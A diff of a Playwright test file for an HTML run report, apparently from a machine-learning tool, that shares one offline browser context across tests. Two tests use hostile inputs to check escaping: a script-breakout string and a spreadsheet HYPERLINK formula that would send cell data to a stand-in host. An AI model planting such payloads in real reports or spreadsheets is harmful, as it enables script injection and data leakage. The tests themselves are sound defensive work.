@@ -11,7 +11,7 @@ from typing import Any
 
 import pytest
 from hypothesis import strategies as st
-from playwright.sync_api import Browser, Page, expect
+from playwright.sync_api import Browser, BrowserContext, Page, expect
 
 from cerebro_elastic.core.history.view import RunView
 from cerebro_elastic.core.model.run import Plan, Spec
@@ -31,13 +31,20 @@ def report(past: Any, manifest: Manifest | None = None) -> str:
     return render(past.spec, past.events, manifest, ReportMetadata("today", "0", {"Python": "3"}))
 
 
-@contextmanager
-def opened(browser: Browser, folder: Path, text: str) -> Iterator[Page]:
-    """A report that is opened without a network; the console stays empty."""
-    (folder / "report.html").write_text(text, encoding="utf-8")
+@pytest.fixture(scope="module")
+def context(browser: Browser) -> Iterator[BrowserContext]:
+    """Without a network; one for all tests, for each is a process of the browser's."""
     context = browser.new_context(
         viewport={"width": 1200, "height": 900}, offline=True, accept_downloads=True
     )
+    yield context
+    context.close()
+
+
+@contextmanager
+def opened(context: BrowserContext, folder: Path, text: str) -> Iterator[Page]:
+    """A report that is opened; the console stays empty."""
+    (folder / "report.html").write_text(text, encoding="utf-8")
     page = context.new_page()
     heard: list[str] = []
     page.on("console", lambda message: heard.append(message.text))
@@ -46,23 +53,23 @@ def opened(browser: Browser, folder: Path, text: str) -> Iterator[Page]:
     page.goto((folder / "report.html").as_uri())
     expect(page.locator("#tiles li").first).to_be_visible()
     yield page
-    context.close()
+    page.close()
     assert heard == []
 
 
 @pytest.fixture
-def page(browser: Browser, past: Any, manifest: Manifest, tmp_path: Path) -> Iterator[Page]:
+def page(context: BrowserContext, past: Any, manifest: Manifest, tmp_path: Path) -> Iterator[Page]:
     """The report of the run in which much went wrong."""
-    with opened(browser, tmp_path, report(past, manifest)) as page:
+    with opened(context, tmp_path, report(past, manifest)) as page:
         yield page
 
 
 @pytest.fixture(scope="module")
-def scripts(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
+def scripts(context: BrowserContext, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
     """Calls a function of the page's scripts: ``scripts("scale", "ticks", 0, 1)``."""
     spec = Spec(Plan("a-run", 1, 1), {}, "", "", "", "", {}, "", "0")
     text = render(spec, [], None, ReportMetadata("today", "0", {}))
-    with opened(browser, tmp_path_factory.mktemp("report"), text) as page:
+    with opened(context, tmp_path_factory.mktemp("report"), text) as page:
         call = "async ([of, name, given]) => (await import(`page/${of}.js`))[name](...given)"
         yield lambda of, name, *given: page.evaluate(call, [of, name, given])
 
@@ -78,7 +85,7 @@ def tips(page: Page) -> list[str]:
     assert box is not None
     found: dict[str, None] = {}
     for y in range(29, int(box["height"]) - 26, 22):
-        for x in range(0, int(box["width"]), 8):
+        for x in range(0, int(box["width"]), 16):
             page.mouse.move(box["x"] + x, box["y"] + y)
             found[page.locator("#tip").inner_text()] = None
     return list(found)
@@ -102,8 +109,10 @@ def test_a_heading_sorts(page: Page) -> None:
     assert page.get_by_role("columnheader", name="val_acc").get_attribute("aria-sort") == "descending"
 
 
-def test_every_unit_is_a_bar_that_says_what_it_was(browser: Browser, past: Any, tmp_path: Path) -> None:
-    with opened(browser, tmp_path, report(past)) as page:
+def test_every_unit_is_a_bar_that_says_what_it_was(
+    context: BrowserContext, past: Any, tmp_path: Path
+) -> None:
+    with opened(context, tmp_path, report(past)) as page:
         texts = tips(page)
         page.get_by_text("What each node did, as a table").press("Enter")
         page.locator("#gantt-node").select_option("node-2")
@@ -133,18 +142,20 @@ def test_names_given_by_users_are_escaped(page: Page) -> None:
     assert page.locator("b", has_text="odd").count() == 0
 
 
-def test_no_text_of_a_user_ends_the_script(browser: Browser, past: Any, tmp_path: Path) -> None:
+def test_no_text_of_a_user_ends_the_script(context: BrowserContext, past: Any, tmp_path: Path) -> None:
     hostile = "</script><script>document.title = 'hacked'</script><!--<script>"
     past.state.configs["c0003"].hparams["act"] = hostile
-    with opened(browser, tmp_path, report(past)) as page:
+    with opened(context, tmp_path, report(past)) as page:
         expect(page.locator("#board")).to_contain_text(hostile)
         assert page.title() == "a-run: report"
 
 
 @pytest.mark.parametrize("events", [0, 16])
-def test_a_run_that_goes_on_has_a_report(browser: Browser, past: Any, tmp_path: Path, events: int) -> None:
+def test_a_run_that_goes_on_has_a_report(
+    context: BrowserContext, past: Any, tmp_path: Path, events: int
+) -> None:
     past.events = past.events[:events]
-    with opened(browser, tmp_path, report(past)) as page:
+    with opened(context, tmp_path, report(past)) as page:
         assert "had not ended" in page.locator("#what").inner_text()
         assert "out of reach" in page.locator("#traffic").inner_text()
 
@@ -159,14 +170,14 @@ def test_nothing_is_asked_of_a_report(page: Page) -> None:
     assert dialog.get_by_role("button").all_inner_texts() == ["Close"]
 
 
-def test_the_costs_of_strategies_are_shown(browser: Browser, past: Any, tmp_path: Path) -> None:
+def test_the_costs_of_strategies_are_shown(context: BrowserContext, past: Any, tmp_path: Path) -> None:
     tried = type(past)({"c0000": {"lr": 0.1}})
     tried.join("node-0", "node-1")
     tried.place()
     tried.visit("c0000", "node-0", 0.0)
     tried.try_on("c0000", "node-0", "node-1")
     tried.visit("c0000", "node-0", 3.0)
-    with opened(browser, tmp_path, report(tried)) as page:
+    with opened(context, tmp_path, report(tried)) as page:
         text = page.locator("#strategies").inner_text()
         assert "How strategies did" in text
         assert "ddp x2 over 2 nodes" in text
@@ -176,7 +187,7 @@ def test_the_costs_of_strategies_are_shown(browser: Browser, past: Any, tmp_path
 
 
 def test_long_runs_stay_small(
-    browser: Browser, past: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    context: BrowserContext, past: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """Bars that cannot be seen one by one are drawn together, but none is left out."""
     line = timeline(RunView(past.events))
@@ -186,12 +197,12 @@ def test_long_runs_stay_small(
     assert sum(bar["attempts"] for bar in drawn) == len(many)
     monkeypatch.setattr(module, "_MOST_SPANS", 5)
     monkeypatch.setattr(module, "_PIXELS", 0.5)
-    with opened(browser, tmp_path, report(past)) as page:
+    with opened(context, tmp_path, report(past)) as page:
         assert any(text.startswith("7 attempts at 3 configs on node-0") for text in tips(page))
 
 
-def test_one_metric_can_be_chosen(browser: Browser, past: Any, tmp_path: Path) -> None:
-    with opened(browser, tmp_path, report(past)) as page:
+def test_one_metric_can_be_chosen(context: BrowserContext, past: Any, tmp_path: Path) -> None:
+    with opened(context, tmp_path, report(past)) as page:
         figures = page.locator("#panels figcaption")
         assert figures.all_inner_texts() == ["val_acc", "loss"]
         page.get_by_label("Metric").select_option("loss")
@@ -209,9 +220,9 @@ def downloaded(page: Page, name: str) -> list[list[str]]:
     return list(csv.reader(download.value.path().read_text(encoding="utf-8").splitlines()))
 
 
-def test_tables_are_downloaded_as_csv(browser: Browser, past: Any, tmp_path: Path) -> None:
+def test_tables_are_downloaded_as_csv(context: BrowserContext, past: Any, tmp_path: Path) -> None:
     past.state.configs["c0003"].hparams["act"] = '=HYPERLINK("http://x/?"&A1), "ü"'
-    with opened(browser, tmp_path, report(past)) as page:
+    with opened(context, tmp_path, report(past)) as page:
         titles, *lines = downloaded(page, "leaderboard")
         assert titles[:6] == ["place", "config", "status", "reason", "metric", "best"]
         assert titles[-2:] == ["act", "lr"]
